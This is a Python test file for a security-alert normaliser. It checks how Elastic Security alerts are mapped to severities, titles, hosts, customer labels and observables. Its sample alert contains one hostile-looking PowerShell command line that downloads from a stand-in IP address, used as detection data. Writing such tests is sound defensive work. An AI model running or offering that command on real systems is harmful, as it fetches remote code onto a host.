"""Documents of the Elastic Common Schema."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from socdomain.sources.builtin import BUILTIN_MAPPINGS
from socdomain.sources.mapping import Normaliser
from socdomain.sources.normalised_event import AssetKind, AssetMention, CustomerClaim, NormalisedEvent
from socdomain.sources.severity import Severity

NORMALISER = Normaliser(BUILTIN_MAPPINGS["ecs"])

# An alert of Elastic Security has the dots in its keys.
ALERT: dict[str, Any] = {
    "@timestamp": "2026-08-20T08:05:00.000Z",
    "kibana.alert.uuid": "f00d",
    "kibana.alert.original_time": "2026-08-20T08:00:00.000Z",
    "kibana.alert.rule.name": "Suspicious PowerShell",
    "kibana.alert.rule.rule_id": "9d110cb3",
    "kibana.alert.severity": "high",
    "kibana.alert.risk_score": 21,
    "kibana.alert.reason": "process event by alice on ws01 created high alert",
    "kibana.alert.rule.threat": [
        {"technique": [{"id": "T1059", "subtechnique": [{"id": "T1059.001"}]}], "tactic": {"name": "Execution"}}
    ],
    "event": {"kind": "signal", "severity": 99, "category": ["process"]},
    "host": {"name": "ws01", "ip": ["10.0.0.3"]},
    "agent": {"id": "collector-1", "name": "collector"},
    "user": {"name": "alice"},
    "process": {"executable": "C:\\Windows\\powershell.exe", "command_line": "powershell -c iwr http://203.0.113.9/a"},
    "data_stream": {"namespace": "acme"},
}


def values(event: NormalisedEvent) -> set[str]:
    return {f"{observable.type.value} {observable.value}" for observable in event.observables}


def test_an_alert_of_elastic_security_is_read_as_an_analyst_would() -> None:
    event = NORMALISER.normalise(ALERT)
    assert (event.title, event.rule_id) == ("Suspicious PowerShell", "9d110cb3")
    assert event.description == "process event by alice on ws01 created high alert"
    assert (event.severity, event.severity_known, event.level) == (Severity.HIGH, True, 99)
    assert event.occurred_at == datetime(2026, 8, 20, 8, tzinfo=UTC)
    assert event.techniques == ("T1059", "T1059.001")
    assert event.document_id == "f00d"
    assert event.asset == AssetMention(AssetKind.HOST, "ws01")
    assert [(mark.code, mark.claim) for mark in event.customer_marks] == [("acme", CustomerClaim.HINTS)]
    assert values(event) == {
        "user_account alice",
        "filename powershell.exe",
        "url http://203.0.113.9/a",
        "ipv4 203.0.113.9",
    }
    assert event.context["Tactics"] == "Execution"


@pytest.mark.parametrize(
    ("document", "severity"),
    [
        ({"signal": {"rule": {"severity": "critical", "risk_score": 21}}}, "Critical"),
        ({"kibana": {"alert": {"severity": "low"}}, "event": {"severity": 99}}, "Low"),
        ({"event": {"severity": 47}, "log": {"level": "debug"}}, "Medium"),
        ({"event": {"severity": 73}}, "High"),
        ({"event": {"severity": 99}}, "Critical"),
        ({"suricata": {"eve": {"alert": {"severity": 1}}}, "event": {"severity": 1}}, "High"),
        ({"event": {"severity": 21}}, "Low"),
        ({"event": {"severity": 100}}, "Critical"),
        ({"event": {"severity": 9}, "log": {"level": "critical"}}, "High"),
        ({"log": {"level": "error"}}, "Medium"),
        ({"log": {"level": "warning"}, "event": {"severity": 5000}}, "Low"),
    ],
)
def test_the_alerts_own_word_counts_first_and_the_log_level_last(document: dict[str, Any], severity: str) -> None:
    event = NORMALISER.normalise(document)
    assert (event.severity.word, event.severity_known) == (severity, True)


@pytest.mark.parametrize("severity", [0, 1, 3, 7, 9, 10, "10", None], ids=repr)
def test_an_event_without_a_severity_of_known_scale_is_medium_and_marked(severity: Any) -> None:
    """CEF's 10 is the worst that there is, and Elastic's 10 is next to nothing."""
    event = NORMALISER.normalise({"event": {"kind": "event", "severity": severity}})
    assert (event.severity, event.severity_known) == (Severity.MEDIUM, False)


@pytest.mark.parametrize(
    ("document", "title"),
    [
        ({"rule": {"name": "Rule"}, "event": {"action": "act"}, "message": "m"}, "Rule"),
        ({"event": {"action": "logged-in"}, "message": "alice logged in at 08:00"}, "logged-in"),
        ({"message": "alice logged in"}, "alice logged in"),
        ({"event": {"code": 4624, "dataset": "security"}}, "Event (4624)"),
        ({}, "Event"),
    ],
)
def test_what_joins_events_without_a_rule_is_what_does_not_differ_between_them(
    document: dict[str, Any], title: str
) -> None:
    assert NORMALISER.normalise(document).title == title


def test_the_shipper_is_not_the_host() -> None:
    assert NORMALISER.normalise({"agent": {"id": "1", "name": "collector", "hostname": "collector"}}).asset is None
    firewall = {"agent": {"name": "collector"}, "source": {"ip": "203.0.113.9"}, "destination": {"ip": "10.0.0.2"}}
    assert NORMALISER.normalise(firewall).asset == AssetMention(AssetKind.HOST, "10.0.0.2")


def test_a_label_names_the_customer_and_the_rest_hints() -> None:
    document = {
        "cloud": {"account": {"id": 123456789012}},
        "organization": {"id": "o1", "name": "Org"},
        "labels": {"customer": "acme"},
    }
    marks = NORMALISER.normalise(document).customer_marks
    assert [(mark.code, mark.claim.value) for mark in marks] == [
        ("acme", "names"),
        ("o1", "hints"),
        ("Org", "hints"),
        ("123456789012", "hints"),
    ]


def test_the_digest_of_a_containers_image_is_no_observable() -> None:
    """It stands on everything that a container does."""
    image = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"
    container = {"image": {"name": "httpd", "hash": {"all": [f"sha256:{image}"]}}}
    document = {"container": container, "message": f"started {image}", "process": {"name": "httpd"}}
    assert values(NORMALISER.normalise(document)) == {"filename httpd"}


def test_the_hosts_own_addresses_are_no_observables() -> None:
    document = {"host": {"ip": ["203.0.113.5"], "mac": ["00-00-5E-00-53-01"]}, "source": {"ip": "203.0.113.9"}}
    assert values(NORMALISER.normalise(document)) == {"ipv4 203.0.113.9"}
